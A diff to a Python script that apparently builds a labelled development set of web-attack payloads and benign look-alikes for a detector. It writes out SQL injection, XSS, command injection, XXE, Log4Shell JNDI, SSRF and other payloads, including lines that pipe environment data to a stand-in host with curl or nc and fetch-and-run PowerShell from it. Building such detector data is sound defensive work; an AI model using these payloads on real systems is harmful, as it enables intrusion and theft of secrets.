@@ -308,6 +308,149 @@ for i in range(50):
     good("form", f"{a} {b}")
     good("query", f"{rng.choice(products)} {rng.choice(prices)}")
 
+# --- Issue 14: development set for the new classes and broader grammars --------------------------
+# Shapes crossed with contexts, seed 14. The held-back set (heldback.py) uses other templates.
+r14 = random.Random(14)
+
+
+def ctx(label, p):
+    k = r14.randrange(4)
+    if k == 0:
+        add(label, "query", p)
+    elif k == 1:
+        add(label, "form", p)
+    elif k == 2:
+        add(label, "json_wrap", p)
+    else:
+        add(label, "query_raw", "v=" + url(p))
+
+
+blind_conditions = ["JSON_EXTRACT('[1]','$[0]')=1", "JSON_VALID('{}')", "user() LIKE 'r%'", "(SELECT 1 FROM (SELECT 2)x)=1",
+                    "SLEEP(3)", "pg_sleep(3) IS NULL", "1=(SELECT 1 WHERE 1 IN (SELECT 1))", "'a' RLIKE 'a'",
+                    "BENCHMARK(100000,MD5('a'))", "DBMS_PIPE.RECEIVE_MESSAGE('x',3)=1", "LENGTH(database())>1",
+                    "1::int=1", "CAST('1' AS int)=1", "lo_creat(-1)>0", "(SELECT COUNT(*) FROM information_schema.tables)>0"]
+for pre in ["1 AND ", "1' AND ", "x\" OR ", "5) AND ("]:
+    for c in blind_conditions:
+        tail = "" if pre[0] == "1" and pre[1] == " " else ("-- -" if r14.random() < .5 else " AND 'z'='z" if "'" in pre else "")
+        ctx("sqli", pre + c + tail)
+for c in ["1;WAITFOR DELAY '0:0:3'", "1)) OR SLEEP(2)#", "1 OR 1::text='1'", "1;SELECT lo_export(1,'/tmp/x')",
+          "1 AND CONVERT(int,db_name())>0", "(SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END)", "1 ORDER BY (SELECT 1)"]:
+    ctx("sqli", c)
+
+sinks = ["alert", "confirm", "prompt", "eval", "print", "Function", "setTimeout", "setInterval"]
+for sink in sinks:
+    for shape in ["{s}.call(null,1)", "{s}.apply(null,[1])", "window['{s}'](1)", "this[\"{s}\"](1)", "{s}`1`",
+                  "top['{s}']`1`", "x=>{s}(1)", "({s})(1)"]:
+        ctx("xss", shape.format(s=sink))
+for h in ["onmouseenter", "onpointerdown", "onbeforeinput", "onauxclick", "onwheel", "onanimationend"]:
+    ctx("xss", f"\" {h}=\"alert(1)")
+    ctx("xss", f"<p {h}=confirm(1)>")
+for uri in ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"]:
+    enc = "".join(f"&#{ord(c)}" for c in uri[:11]) + uri[11:]
+    ctx("xss", f"<a href=\"{enc}\">x</a>")
+    enc2 = "".join(f"&#x{ord(c):X};" for c in uri[:11]) + uri[11:]
+    ctx("xss", f"<iframe src='{enc2}'>")
+
+win = ["ver", "type %WINDIR%\\system.ini", "IF 1==1 (whoami)", "FOR /L %i IN (1,1,3) DO echo %i", "echo %COMPUTERNAME%",
+       "c^a^l^c", "set /a 1+1", "powershell -EncodedCommand ZQBjAGgAbwA=", "powershell IEX (iwr http://e.example/x)",
+       "powershell Invoke-Expression 'whoami'", "pwsh -enc ZQBjAGgAbwA=", "cmd.exe /c dir"]
+unix = ["id | base64", "cat /etc/hosts | xxd", "uname -a | nc e.example 80", "whoami | od -c", "ls | base32",
+        "env | curl -d @- http://e.example", "a=$(whoami);echo $a", "echo `id`", "cat${IFS}/etc/issue", "sleep${IFS}5"]
+for sep in ["&", "|", "&&", "||", "\r\n"]:
+    for w in win:
+        if r14.random() < .5:
+            ctx("cmdi", "x" + sep + w)
+for sep in [";", "|", "&&", "||", "\n", "$(", "`"]:
+    for u in unix:
+        if r14.random() < .5:
+            tail = ")" if sep == "$(" else ("`" if sep == "`" else "")
+            ctx("cmdi", "a" + sep + u + tail)
+for asp in ["Response.Write(CreateObject(\"WScript.Shell\").Exec(\"cmd /c dir\").StdOut.ReadAll())",
+            "Execute(Request(\"c\"))", "Eval(Request.Form(\"x\"))", "CreateObject(\"Scripting.FileSystemObject\")"]:
+    ctx("cmdi", asp)
+
+for op in ["$ne", "$gt", "$regex", "$where", "$nin", "$exists"]:
+    add("nosql", "path", url("{" + op + ": 1}"))
+    add("nosql", "path", url("{\"x\": {\"" + op + "\": \"\"}}"))
+    add("nosql", "query", "{'" + op + "': ''}")
+    add("nosql", "query_raw", f"u[{url(op)}]=1")
+for js in ["'; return this.a != ''; var z='", "\" || this.role == \"admin", "1; return true", "'||1==1//"]:
+    ctx("nosql", js)
+
+dtds = ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/issue">]><a>&b;</a>', '<!DOCTYPE a [<!ENTITY % c SYSTEM "http://e.example/d">%c;]>',
+        '<!DOCTYPE a SYSTEM "http://e.example/a.dtd"><a/>', '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/issue"/></a>',
+        '<?xml version="1.0" encoding="UTF-16"?><a/>', '<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;">]><a>&z;</a>']
+for d in dtds:
+    ctx("xxe", d)
+    add("xxe", "xml", d)
+for hdr in ["Set-Cookie: s=1", "Location: /evil", "X-Forwarded-For: 1.2.3.4", "Content-Type: text/html", "Access-Control-Allow-Origin: *"]:
+    for nl in ["%0d%0a", "%0a", "%0d", "%250d%250a", "%E5%98%8A%E5%98%8D"]:
+        if r14.random() < .5:
+            add("crlf", "query_raw", "lang=en" + nl + url(hdr))
+            add("crlf", "path", "x" + nl + url(hdr))
+for f in ["*)(objectClass=*", "x)(|(cn=*)", "*)(&(uid=*)", "a)(!(sn=*)", "(|(mail=*)(uid=*))", "z)(&)"]:
+    ctx("ldap", f)
+for d in ["exec cmd=\"cat /etc/issue\"", "include file=\"/etc/issue\"", "echo var=\"DATE_LOCAL\"", "exec cgi=\"/x.cgi\""]:
+    ctx("ssi", "<!--#" + d + " -->")
+    ctx("ssi", "<!-- #" + d + "-->")
+for m in ["a@b.c\nBcc: x@e.example", "a@b.c\r\nCc: x@e.example", "x\r\nMAIL FROM:<x@e.example>", "x\r\nRCPT TO:<x@e.example>",
+          "INBOX\r\nX1 FETCH 1 BODY[]", "x\r\n.\r\nQUIT"]:
+    ctx("mail", m)
+for j in ["${jndi:ldap://e.example/x}", "${${lower:J}ndi:dns://e.example}", "${${::-J}NDI:rmi://e.example/x}",
+          "${${env:X:-j}ndi:ldap://e.example}", "${j${lower:n}di:ldap://e.example}"]:
+    ctx("jndi", j)
+    add("jndi", "ua", "curl/8 " + j)
+for j in ["%{@java.lang.Runtime@getRuntime().exec('id')}", "T(java.lang.System).getenv()", "${facesContext.externalContext}",
+          "#{session.getAttribute('x')}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "aced0005737200", "''.getClass().forName('x')"]:
+    ctx("java", j)
+for p in ["<?php echo shell_exec('id'); ?>", "<?=system('id')?>", "exec('ls')", "popen('id','r')",
+          "O:4:\"User\":1:{s:4:\"role\";s:5:\"admin\";}", "$_GET['x']($_GET['y'])", "call_user_func_array('system',['id'])"]:
+    ctx("php", p)
+for h in ["169.254.169.254", "0xa9.0xfe.0xa9.0xfe", "0x7f.1", "[::ffff:7f00:1]", "2130706433", "metadata.google.internal"]:
+    add("ssrf", "query_raw", "url=" + url("http://" + h + "/x"))
+    add("ssrf", "json", json.dumps({"webhook_url": "https://" + h + "/"}))
+for h in ["127.0.0.1", "10.0.0.8", "localhost:8080", "192.168.1.1"]:
+    add("ssrf", "query_raw", "callback=" + url("http://" + h + "/"))
+for u in ["gopher://localhost:25/_HELO", "dict://localhost:6379/info"]:
+    ctx("ssrf", u)
+for n in ["__proto__[a]=1", "a[__proto__][b]=1", "constructor[prototype][c]=1", "x.constructor.prototype.d=1"]:
+    add("prototype_pollution", "query_raw", n)
+for b in ['{"__proto__": {"a": 1}}', '{"a": {"constructor": {"prototype": {"b": 1}}}}']:
+    add("prototype_pollution", "json", b)
+for n in ["PHPSESSID=x", "JSESSIONID=y", "ASPSESSIONIDABCD=z", "ASP.NET_SessionId=w"]:
+    add("session_fixation", "query_raw", n)
+for n in ["<script>document.cookie='a=b'</script>", "<meta http-equiv='set-cookie' content='a=b'>"]:
+    ctx("session_fixation", n)
+for n, u in [("page", "http://e.example/x.txt"), ("file", "https://e.example/s"), ("include", "ftp://e.example/a"),
+             ("template", "//e.example/t"), ("lang", "http://e.example/l.txt?")]:
+    add("rfi", "query_raw", f"{n}={url(u)}")
+
+# Benign that looks dangerous (development part).
+for t in ["SELECT a plan: basic, pro or team", "Don't forget to drop by", "user+news@example.com", "\"a b\"@example.com",
+          "ls, cd and cat are basic commands", "echo 'hello' > file.txt (in the tutorial)", "Use ${VAR} in .env files",
+          "C# and F# are .NET languages", "x => x * 2", "arr.map(f).filter(Boolean)", "window.onload is an event",
+          "The constructor runs first; the prototype holds methods", "Location: Berlin\nSalary: competitive",
+          "From: Alice\nTo: Bob\nSubject: lunch", "<?xml version=\"1.0\"?><note><to>Bob</to></note>",
+          "(cn=admin)", "http://localhost:8080/health is our dev URL", "OR-1234 is the ticket", "It's 1=1 in the doc",
+          "dGhpcyBpcyBqdXN0IGJhc2U2NA==", "page 2 of 10", "include the receipt", "exec summary attached",
+          "I want to select, insert and delete rows in the spreadsheet", "and/or", "100 < 200 > 50",
+          "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhYmMifQ.sig", "Ünïcödé 😀 日本語 한국어 עברית"]:
+    good("query", t)
+    good("json", json.dumps({"body": t}, ensure_ascii=False))
+# Developer-forum content (development part): shell pipelines and commands in inline code,
+# dunder methods, React handlers, fetch chains.
+for t in ["To count lines: grep -c error app.log | sort -n | head", "Try `wget -qO- https://example.com/install.sh` first",
+          "Python calls __init__ when the object is created", "Override __repr__ and __eq__ for nicer output",
+          "<input onChange={(e) => setName(e.target.value)} />", "<a onClick={() => navigate('/home')}>Home</a>",
+          "fetch(url).then(res => res.text())", "atob(token.split('.')[1]) decodes a JWT payload",
+          "Run `ls -la | less` to page through", "Use `nc -zv host 443` to test the port"]:
+    good("json", json.dumps({"post": {"body": t, "votes": r14.randint(0, 99)}}))
+    good("form", t)
+for n, v in [("url", "https://example.com/a?b=c"), ("callback_url", "https://hooks.example.com/x"), ("page", "3"),
+             ("file", "report.pdf"), ("template", "invoice"), ("redirect_uri", "https://app.example.com/cb"), ("sid", "42"),
+             ("session_id", "cs_test_a1b2c3")]:
+    good("query_raw", f"{n}={url(v)}")
+
 with open("attacks.jsonl", "w", encoding="utf-8") as f:
     for a in attacks:
         if a["kind"] == "json_wrap":
